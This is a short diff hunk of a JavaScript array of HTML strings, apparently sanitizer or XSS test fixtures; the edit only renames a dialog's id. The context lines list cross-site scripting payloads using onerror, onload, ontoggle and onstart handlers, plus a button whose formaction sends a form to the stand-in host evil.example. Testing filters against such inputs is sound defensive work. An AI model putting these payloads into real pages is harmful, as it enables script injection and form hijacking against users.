@@ -105,7 +105,7 @@ const markup = [
   `<button formaction="https://evil.example/" form="bulk">Save</button>`,
   `<input name="csrf" value="x"><input type="hidden" name="once" value="x">`,
   `<details open ontoggle=${hit}>x</details>`,
-  `<dialog open id="choose">x</dialog>`,
+  `<dialog open id="move-dialog">x</dialog>`,
   `<video><source onerror=${hit}></video>`,
   `<body onload=${hit}>`,
   `<marquee onstart=${hit}>x</marquee>`,
